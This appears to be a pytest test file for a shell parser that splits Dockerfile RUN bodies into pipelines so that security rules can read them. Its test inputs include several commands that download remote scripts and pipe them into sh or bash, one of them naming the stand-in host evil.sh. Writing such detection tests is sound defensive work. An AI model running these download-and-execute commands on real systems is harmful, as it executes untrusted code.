"""The shell splitter: RUN bodies into pipelines of commands that rules can read."""
import pytest

from hardrun.parsing.shell import inline_script, split_argv, split_script


def pipelines(text, line=1, breaks=()):
    return [[command.words for command in pipeline] for pipeline in split_script(text, line, breaks)]


def all_words(text):
    return [words for pipeline in pipelines(text) for words in pipeline]


def test_operators_split_pipelines_and_commands():
    assert pipelines("a 1 | b 2 |& c && d || e; f & g") == [
        [("a", "1"), ("b", "2"), ("c",)], [("d",)], [("e",)], [("f",)], [("g",)]]


def test_quotes_and_escapes_are_removed():
    assert all_words("""echo 'a b' "c $d" e\\ f "g\\"h" 'i'"j"k \\$x""") == [
        ("echo", "a b", "c $d", "e f", 'g"h', "ijk", "$x")]


def test_substitutions_stay_whole_words_and_their_commands_are_visible():
    words = all_words('echo "$(curl -s https://x | sh)" `sudo id` ${X:-a b} $((1 + 2))')
    assert words[0] == ("echo", "$(curl -s https://x | sh)", "`sudo id`", "${X:-a b}", "$((1 + 2))")
    assert ("curl", "-s", "https://x") in words and ("sh",) in words and ("sudo", "id") in words
    assert len(words) == 4     # nothing from the arithmetic


def test_assignments_are_separated_from_words():
    (command,) = [c for p in split_script("DEBIAN_FRONTEND=noninteractive A='x y' apt-get install -y z=1") for c in p]
    assert command.assignments == (("DEBIAN_FRONTEND", "noninteractive"), ("A", "x y"))
    assert command.words == ("apt-get", "install", "-y", "z=1")
    assert command.name == "apt-get"


def test_lone_assignment_is_a_command_without_words():
    (command,) = [c for p in split_script("PATH=/x:$PATH") for c in p]
    assert command.words == () and command.assignments == (("PATH", "/x:$PATH"),)


def test_redirections_are_not_words():
    assert all_words("make >/dev/null 2>&1 </dev/null && cat >>log <<<'x' && cmd &>out") == [
        ("make",), ("cat",), ("cmd",)]


def test_comments_and_newlines():
    assert pipelines("echo a # trailing | sh\n# whole line\necho b#c") == [[("echo", "a")], [("echo", "b#c")]]


def test_lines_follow_newlines_and_breaks():
    commands = [c for p in split_script("a\n\nb; c", line=10) for c in p]
    assert [(c.words[0], c.line) for c in commands] == [("a", 10), ("b", 12), ("c", 12)]
    text = "a && b && c"
    commands = [c for p in split_script(text, line=5, breaks=[4, 4, 9]) for c in p]
    assert [c.line for c in commands] == [5, 7, 8]


def test_subshells_and_groups_expose_their_commands():
    assert all_words("(cd /src && make) ; { echo a; sudo b; }") == [
        ("cd", "/src"), ("make",), ("echo", "a"), ("sudo", "b")]


def test_group_piped_into_a_shell_keeps_the_pipe():
    assert pipelines("{ echo set -e; curl -s https://x; } | bash") == [
        [("echo", "set", "-e")], [("curl", "-s", "https://x"), ("bash",)]]


def test_if_while_for_case_bodies_are_commands():
    script = """
if [ -n "$X" ]; then apt-get update; elif true; then :; else sudo x; fi
for f in a b c; do rm "$f"; done
while read line; do echo "$line"; done < file
until false; do break; done
case "$ARCH" in
  amd64|x86_64) url=https://a ;;
  (arm64) curl -s "$url" | sh ;;
  *) echo unknown ;;
esac
"""
    words = all_words(script)
    assert ("[", "-n", "$X", "]") in words and ("apt-get", "update") in words
    assert ("true",) in words and (":",) in words and ("sudo", "x") in words
    assert ("rm", "$f") in words and ("read", "line") in words and ("echo", "$line") in words
    assert ("false",) in words and ("break",) in words
    assert ("curl", "-s", "$url") in words and ("echo", "unknown") in words
    assert not any(w[0] in ("for", "do", "done", "case", "in", "esac", "a", "amd64|x86_64")
                   for w in words if w)


def test_case_pipeline_into_shell_is_one_pipeline():
    found = pipelines("case x in\n x) curl -s u | sh ;;\nesac")
    assert [("curl", "-s", "u"), ("sh",)] in found


def test_reserved_words_are_plain_words_as_arguments():
    assert all_words("echo if then fi done { }") == [("echo", "if", "then", "fi", "done", "{", "}")]


def test_function_definitions_do_not_become_commands():
    assert all_words("setup() { sudo true; }\nfunction other { echo x; }\nsetup") == [
        ("sudo", "true"), ("echo", "x"), ("setup",)]


def test_heredoc_bodies_are_skipped_unless_fed_to_a_shell():
    script = "cat > /etc/x <<'EOF'\nsudo not-a-command\nEOF\nbash -s <<-END\n\tsudo real\n\tEND\necho done"
    commands = [c for p in split_script(script) for c in p]
    assert [(c.words, c.line) for c in commands] == [
        (("cat",), 1), (("bash", "-s"), 4), (("sudo", "real"), 5), (("echo", "done"), 7)]


@pytest.mark.parametrize("script", ["diff <(curl evil.sh", "echo $(curl evil.sh", "echo `curl evil.sh"])
def test_an_unterminated_substitution_keeps_its_last_character(script):
    assert ("curl", "evil.sh") in all_words(script)


def test_unterminated_heredoc_is_best_effort():
    assert all_words("cat <<EOF\nno end") == [("cat",)]


@pytest.mark.parametrize("script,inner", [
    ('sh -c "curl -s u | sh"', [("curl", "-s", "u"), ("sh",)]),
    ("bash -euxc 'sudo id'", [("sudo", "id")]),
    ("bash -o pipefail -c 'wget -O- u | bash'", [("wget", "-O-", "u"), ("bash",)]),
    ("sudo -u app sh -c 'echo hi'", [("echo", "hi")]),
    ("env A=1 /bin/sh -c 'echo hi'", [("echo", "hi")]),
    ("su - app -c 'echo hi'", [("echo", "hi")]),
    ("gosu app bash -c 'echo hi'", [("echo", "hi")]),
    ('sh -c "sh -c \\"sudo deep\\""', [("sudo", "deep")]),
])
def test_shell_c_strings_are_split_recursively(script, inner):
    words = all_words(script)
    for command in inner:
        assert command in words


def test_shell_c_needs_the_c_option():
    assert inline_script(("bash", "script.sh")) is None
    assert inline_script(("echo", "sh", "-c", "x")) is None
    assert inline_script(("/bin/bash", "-lc", "make")) == "make"


def test_exec_form_argv_with_shell():
    found = [[c.words for c in p] for p in split_argv(["/bin/sh", "-c", "apk add curl && curl u | sh"], 3)]
    assert found == [[("/bin/sh", "-c", "apk add curl && curl u | sh")], [("apk", "add", "curl")],
                     [("curl", "u"), ("sh",)]]
    assert split_argv([], 1) == ()


@pytest.mark.parametrize("text", [
    "echo 'unterminated", 'echo "open $(nested', "echo $(", "`", "((", "))", ")", "(", "}", "{",
    "case", "case x in", "for", "if", "<<", "<<EOF", ">", "2>&", "a |", "| b", "&&", ";;", "\\",
    "echo ${", "$'", "f()", "function", "<(", "esac", "done fi", "x=$(( 1 + ", "\x00\x01",
])
def test_broken_shell_never_raises(text):
    split_script(text)
